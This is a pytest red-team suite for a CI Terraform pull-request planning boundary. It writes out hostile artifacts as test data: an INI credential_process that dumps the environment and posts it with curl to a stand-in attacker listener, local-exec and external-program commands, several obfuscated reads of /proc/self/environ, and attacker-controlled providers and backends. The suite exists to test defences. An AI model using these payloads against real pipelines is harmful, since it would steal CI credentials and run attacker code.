"""Red-team tests of the PR-plan boundary (issue 15): each attack through the real PR-plan path.

Each test builds a hostile artifact from the real synthesized dev stack, runs the plan job's
steps on it (tests/security/redteam.py: the zip, ``pipeline pr-stack``, the policy pack,
``scripts/plan.sh`` with real terraform, the provider mirror and moto), with canary credentials
and an OIDC request token in the environment, and asserts:

- nothing the artifact controls ran: the file its payload would write stays absent;
- no canary value (plain or base64) is in any output: step logs, reports, comment, summary;
- no connection reached the local listener standing in for the attacker's endpoint.

Attacks the boundary neutralises (the artifact's ``terraform`` and ``provider`` blocks are
dropped and rebuilt from this branch) must still plan, against the environment's own state in
moto: the plan succeeding there is what shows the artifact's blocks were replaced.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from infra import terraform_root
from infra.config import load_settings
from tests.fixture_paths import REPO_ROOT
from tests.security.redteam import CANARIES, STACK, Listener, PrPlanRun, zip_bytes
from tests.terraform import harness

ENVIRON_FILE = "/proc/self/environ"


@pytest.fixture(scope="module")
def dev_stack(tier_stacks_dir: Path) -> dict[str, Any]:
    return json.loads((tier_stacks_dir / "stacks" / STACK / "cdk.tf.json").read_text())


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture
def pr_plan(
    terraform_env: dict[str, str],
    tmp_path: Path,
    listener: Listener,
    attacker_provider: dict[str, Path],
) -> Callable[[bytes], PrPlanRun]:
    def run(archive: bytes) -> PrPlanRun:
        attacker_provider["ran"].unlink(missing_ok=True)
        env = {
            **terraform_env,
            # The tier's provider installation plus a stand-in for the public registry that
            # serves the attacker's provider (tests/security/conftest.py).
            "TF_CLI_CONFIG_FILE": str(attacker_provider["cli_config"]),
            **CANARIES,
            "ACTIONS_ID_TOKEN_REQUEST_URL": f"{listener.url}/oidc",
            "PYTHONPATH": str(REPO_ROOT),
            "GITHUB_STEP_SUMMARY": str(tmp_path / "work" / "step-summary.md"),
        }
        base = tmp_path / "work"
        base.mkdir()
        result = PrPlanRun(base=base, env=env).run(archive)
        result.attacker_ran = attacker_provider["ran"].exists()
        return result

    return run


def assert_contained(run: PrPlanRun, listener: Listener) -> None:
    assert not run.attacker_ran, "Terraform started the attacker's provider"
    assert not run.canary_file.exists(), "the artifact's payload ran"
    assert run.leaks() == []
    assert listener.connections == [], f"requests reached the attacker: {listener.connections}"


def assert_refused(run: PrPlanRun, rule: str) -> None:
    unpack = run.step("unpack")
    assert unpack.returncode == 2, unpack.output
    assert rule in unpack.output, unpack.output
    assert not run.planned
    assert rule in (run.reports / "comment.md").read_text()


def assert_planned_against_own_state(run: PrPlanRun) -> None:
    plan = run.step("plan")
    assert plan.returncode == 0, plan.output[-6000:]
    written = json.loads((run.base / "pr-stacks" / "stacks" / STACK / "cdk.tf.json").read_text())
    settings = load_settings(run.env)
    config = next(e for e in settings.environments if e.name == "dev")
    assert written["terraform"] == terraform_root.terraform_block(config, settings.state)
    assert written["provider"] == terraform_root.provider_blocks(config)
    assert "Plan:" in (run.reports / "comment.md").read_text()


def payload(run_dir_hint: str) -> str:
    """A shell command that proves it ran and tries to send the environment out."""
    return f"env > {run_dir_hint}/pwned"


# -- the attacks of the issue ---------------------------------------------------------------


EVIL_PROVIDER = 'provider["registry.terraform.io/attacker/evil"]'


def evil_state() -> bytes:
    """A Terraform state whose only resource belongs to the attacker's provider."""
    resource = {
        "mode": "managed",
        "type": "evil_thing",
        "name": "x",
        "provider": EVIL_PROVIDER,
        "instances": [{"schema_version": 0, "attributes": {"id": "x"}}],
    }
    state = {
        "version": 4,
        "terraform_version": "1.11.4",
        "serial": 1,
        "lineage": "00000000-0000-0000-0000-000000000000",
        "outputs": {},
        "resources": [resource],
        "check_results": None,
    }
    return json.dumps(state).encode()


def test_a_state_chosen_by_the_pr_cannot_install_and_start_its_provider(
    dev_stack: dict[str, Any],
    moto_server: harness.MotoServer,
    pr_plan: Callable[[bytes], PrPlanRun],
    listener: Listener,
) -> None:
    """Critical 1: the PR's backend names its own bucket, with a key written as
    ``${"AKIA..."}`` so no literal-key rule sees it; the state there names a provider of the
    attacker's, which init would install and plan start."""
    s3 = harness.boto3_client("s3", endpoint=moto_server.endpoint)
    s3.create_bucket(
        Bucket="attacker-state", CreateBucketConfiguration={"LocationConstraint": harness.REGION}
    )
    s3.put_object(Bucket="attacker-state", Key="evil.tfstate", Body=evil_state())
    stack = copy.deepcopy(dev_stack)
    stack["terraform"]["backend"]["s3"] = {
        "bucket": "attacker-state",
        "key": "evil.tfstate",
        "region": "eu-north-1",
        "access_key": '${"AKIAATTACKER0EXAMPLE"}',
        "secret_key": '${"attacker-secret"}',
        # What the pack asks of a backend, so that only the boundary stands in the way.
        "encrypt": True,
        "use_lockfile": True,
    }
    run = pr_plan(zip_bytes(stack))
    assert_contained(run, listener)
    assert_planned_against_own_state(run)


def test_init_never_installs_a_provider_outside_the_lock_file_whatever_the_state_names(
    dev_stack: dict[str, Any],
    moto_server: harness.MotoServer,
    moto_account: harness.SeededAccount,
    pr_plan: Callable[[bytes], PrPlanRun],
    listener: Listener,
) -> None:
    """Even the environment's own state (say, written by a compromised apply) cannot make a
    PR plan install a provider: init has only the vetted plugin directory."""
    s3 = harness.boto3_client("s3", endpoint=moto_server.endpoint)
    key = "catalog-api/dev/terraform.tfstate"
    s3.put_object(Bucket=moto_account.state_bucket, Key=key, Body=evil_state())
    try:
        run = pr_plan(zip_bytes(dev_stack))
    finally:
        s3.delete_object(Bucket=moto_account.state_bucket, Key=key)
    plan = run.step("plan")
    assert plan.returncode != 0
    log = (run.reports / "plan.log").read_text()
    assert "attacker/evil" in log  # init names what it would not install
    assert_contained(run, listener)


@pytest.mark.parametrize("place", ["provider", "backend"])
def test_credential_process_through_a_profile_in_the_artifact_zip_is_refused(
    place: str,
    dev_stack: dict[str, Any],
    pr_plan: Callable[[bytes], PrPlanRun],
    listener: Listener,
    tmp_path: Path,
) -> None:
    """Critical 2: ``profile`` + ``shared_config_files`` naming the zip, INI text in front."""
    work = tmp_path / "work"
    ini = (
        "[profile pwn]\n"
        f"credential_process = sh -c '{payload(str(work))}; curl -s {listener.url} -d @-'\n"
        "\n"
    ).encode()
    stack = copy.deepcopy(dev_stack)
    settings = {"profile": "pwn", "shared_config_files": [str(work / "pr-stacks.zip")]}
    if place == "provider":
        for block in stack["provider"]["aws"]:
            block.update(settings)
    else:
        stack["terraform"]["backend"]["s3"].update(settings)
    run = pr_plan(zip_bytes(stack, prefix=ini))
    unpack = run.step("unpack")
    assert unpack.returncode == 2 and "bytes before the first zip entry" in unpack.output
    assert not run.planned
    assert_contained(run, listener)


@pytest.mark.parametrize("place", ["provider", "backend"])
def test_a_profile_in_the_artifact_is_dropped_with_its_blocks(
    place: str,
    dev_stack: dict[str, Any],
    pr_plan: Callable[[bytes], PrPlanRun],
    listener: Listener,
    tmp_path: Path,
) -> None:
    """The same without the INI prefix: the blocks that carried it never reach Terraform."""
    stack = copy.deepcopy(dev_stack)
    settings = {"profile": "pwn", "shared_config_files": [str(tmp_path / "work" / "pr-stacks.zip")]}
    if place == "provider":
        for block in stack["provider"]["aws"]:
            block.update(settings)
    else:
        stack["terraform"]["backend"]["s3"].update(settings)
    run = pr_plan(zip_bytes(stack))
    assert_contained(run, listener)
    assert_planned_against_own_state(run)


FILE_SPELLINGS = {
    "templated object key": {f'${{base64encode(file("{ENVIRON_FILE}"))}}': "x"},
    "directive without ${": f'%{{ if file("{ENVIRON_FILE}") != "" }}read%{{ endif }}',
    "comment inside the interpolation": f'${{base64encode(file/**/("{ENVIRON_FILE}"))}}',
}


@pytest.mark.parametrize("spelling", sorted(FILE_SPELLINGS))
def test_the_three_file_spellings_are_read_and_refused(
    spelling: str,
    dev_stack: dict[str, Any],
    pr_plan: Callable[[bytes], PrPlanRun],
    listener: Listener,
) -> None:
    """High: Terraform reads all three; the template reader does too."""
    stack = copy.deepcopy(dev_stack)
    stack["output"]["leak"] = {"value": FILE_SPELLINGS[spelling]}
    run = pr_plan(zip_bytes(stack))
    assert_refused(run, "BND005")
    assert_contained(run, listener)


def test_two_backend_blocks_never_reach_terraform(
    dev_stack: dict[str, Any], pr_plan: Callable[[bytes], PrPlanRun], listener: Listener
) -> None:
    """Medium: Terraform configures the first backend block; the old pack read the last."""
    stack = copy.deepcopy(dev_stack)
    legit = stack["terraform"]
    hostile = {
        "backend": {
            "s3": {
                "bucket": "attacker-state",
                "key": "x",
                "region": "eu-north-1",
                "endpoints": {"s3": listener.url},
                "use_path_style": True,
            }
        }
    }
    stack["terraform"] = [hostile, legit]
    run = pr_plan(zip_bytes(stack))
    assert_contained(run, listener)
    assert_planned_against_own_state(run)


def test_the_pr_cannot_choose_providers_or_their_versions(
    dev_stack: dict[str, Any], pr_plan: Callable[[bytes], PrPlanRun], listener: Listener
) -> None:
    """Also found: the PR chose the provider version (no lock file, no plugin restriction), and
    so could require a provider of its own, which init installs and plan starts."""
    stack = copy.deepcopy(dev_stack)
    stack["terraform"]["required_providers"]["aws"]["version"] = ">= 5.0"
    stack["terraform"]["required_providers"]["evil"] = {"source": "attacker/evil"}
    run = pr_plan(zip_bytes(stack))
    assert_contained(run, listener)
    assert_planned_against_own_state(run)
    lock = (run.base / "pr-stacks" / "stacks" / STACK / ".terraform.lock.hcl").read_text()
    assert "attacker" not in lock and "hashicorp/aws" in lock


# -- attacks found while looking as an attacker ---------------------------------------------

REFUSED: dict[str, tuple[str, Callable[[dict[str, Any], str, str], None]]] = {}


def refused(name: str, rule: str) -> Callable:
    def register(change: Callable[[dict[str, Any], str, str], None]) -> Callable:
        REFUSED[name] = (rule, change)
        return change

    return register


@refused("local-exec provisioner", "BND007")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    bucket = next(iter(stack["resource"]["aws_s3_bucket"].values()))
    bucket["provisioner"] = [{"local-exec": {"command": f"env > {work}/pwned"}}]


@refused("module with a remote source", "BND001")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["module"] = {"m": {"source": f"{url}/module.zip"}}


@refused("external data source", "BND003")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["data"]["external"] = {"x": {"program": ["sh", "-c", f"env > {work}/pwned"]}}


@refused("http data source", "BND003")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["data"]["http"] = {"x": {"url": url}}


@refused("terraform_remote_state", "BND003")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["data"]["terraform_remote_state"] = {"x": {"backend": "http", "config": {"address": url}}}


@refused("aws data source returning a secret", "BND003")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["data"]["aws_ssm_parameter"] = {"x": {"name": "/prod/db/password"}}


@refused("aws data source that runs a Lambda function", "BND003")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["data"]["aws_lambda_invocation"] = {"x": {"function_name": "f", "input": "{}"}}


@refused("file in a nested // key of a map", "BND005")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    bucket = next(iter(stack["resource"]["aws_s3_bucket"].values()))
    bucket["tags"] = {"//": '${file("/proc/self/environ")}'}


@refused("resource on a provider alias of the PR", "BND007")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    bucket = next(iter(stack["resource"]["aws_s3_bucket"].values()))
    bucket["provider"] = "aws.evil"
    stack["provider"]["aws"].append(
        {
            "alias": "evil",
            "endpoints": [{"s3": url, "sts": url}],
            "assume_role": [{"role_arn": "arn:aws:iam::111111111111:role/x"}],
        }
    )


@refused("check block with a scoped data source", "BND001")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["check"] = {"c": {"data": {"http": {"x": {"url": url}}}, "assert": []}}


@refused("ephemeral resource", "BND001")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["ephemeral"] = {"aws_secretsmanager_secret_version": {"x": {"secret_id": "x"}}}


@refused("import block", "BND001")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["import"] = [{"to": "aws_s3_bucket.x", "id": "attacker"}]


@refused("number out of range", "BND008")
def _(stack: dict[str, Any], work: str, url: str) -> None:
    stack["output"]["big"] = {"value": float("inf")}


# Attacks that need nothing but an output expression: (rule, expression).
OUTPUT_LEAKS: dict[str, tuple[str, str]] = {
    "templatefile": ("BND005", '${templatefile("/proc/self/environ", {})}'),
    "core:: namespaced file": ("BND005", '${core::file("/proc/self/environ")}'),
    "file inside a heredoc": ("BND005", '${<<EOT\n${file("/proc/self/environ")}\nEOT\n}'),
    "nonsensitive": ("BND005", "${nonsensitive(aws_secretsmanager_secret.x.arn)}"),
    "unicode look-alike function name": ("BND004", '${f\u0456le("/proc/self/environ")}'),
    "path and terraform references": ("BND006", "${path.cwd}/${terraform.workspace}"),
}


def _leak_through_output(expression: str) -> Callable[[dict[str, Any], str, str], None]:
    def change(stack: dict[str, Any], work: str, url: str) -> None:
        stack["output"]["leak"] = {"value": expression}

    return change


for _name, (_rule, _expression) in OUTPUT_LEAKS.items():
    refused(_name, _rule)(_leak_through_output(_expression))


@pytest.mark.parametrize("attack", sorted(REFUSED))
def test_found_attacks_are_refused_before_terraform(
    attack: str,
    dev_stack: dict[str, Any],
    pr_plan: Callable[[bytes], PrPlanRun],
    listener: Listener,
    tmp_path: Path,
) -> None:
    rule, change = REFUSED[attack]
    stack = copy.deepcopy(dev_stack)
    change(stack, str(tmp_path / "work"), listener.url)
    # allow_nan: the out-of-range number must reach the checks as JSON's 1e400 would.
    raw = json.dumps(stack, allow_nan=True).replace("Infinity", "1e400").encode()
    run = pr_plan(zip_bytes(None, raw=raw))
    assert_refused(run, rule)
    assert_contained(run, listener)


def test_json_duplicate_keys_are_refused(
    dev_stack: dict[str, Any], pr_plan: Callable[[bytes], PrPlanRun], listener: Listener
) -> None:
    """Terraform's JSON reader sees both copies of a repeated key; Python's only the last."""
    body = json.dumps(dev_stack)[1:]
    raw = ('{"output": {"leak": {"value": "${file(\\"/proc/self/environ\\")}"}},' + body).encode()
    run = pr_plan(zip_bytes(None, raw=raw))
    unpack = run.step("unpack")
    assert unpack.returncode == 2 and "duplicate key" in unpack.output
    assert_contained(run, listener)


def test_init_refuses_a_provider_whose_hash_is_not_in_the_lock_file(
    dev_stack: dict[str, Any],
    terraform_env: dict[str, str],
    pr_plan: Callable[[bytes], PrPlanRun],
    listener: Listener,
    tmp_path: Path,
) -> None:
    """-lockfile=readonly: a provider package other than the locked one is never installed."""
    lock = Path(terraform_env["PIPELINE_TF_LOCK_FILE"]).read_text()
    tampered = tmp_path / "tampered.lock.hcl"
    lines = [
        line
        if "h1:" not in line and "zh:" not in line
        else '    "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",'
        for line in lock.splitlines()
    ]
    tampered.write_text("\n".join(lines) + "\n")
    terraform_env_with_tampered = {**terraform_env, "PIPELINE_TF_LOCK_FILE": str(tampered)}
    run = PrPlanRun(base=tmp_path / "work", env={**terraform_env_with_tampered, **CANARIES,
                    "PYTHONPATH": str(REPO_ROOT)})  # fmt: skip
    run.base.mkdir()
    run.run(zip_bytes(dev_stack))
    plan = run.step("plan")
    assert plan.returncode != 0
    log = (run.reports / "plan.log").read_text() if (run.reports / "plan.log").exists() else ""
    assert "checksum" in (plan.output + log).lower() or "lock" in (plan.output + log).lower()
    assert_contained(run, listener)


def test_the_real_dev_stack_plans_through_the_boundary(
    dev_stack: dict[str, Any], pr_plan: Callable[[bytes], PrPlanRun], listener: Listener
) -> None:
    """The happy path: the project's own artifact is taken and planned."""
    run = pr_plan(zip_bytes(dev_stack))
    assert_contained(run, listener)
    assert_planned_against_own_state(run)
    assert not (run.base / "pr-stacks.zip").exists(), "the artifact zip outlived the check"
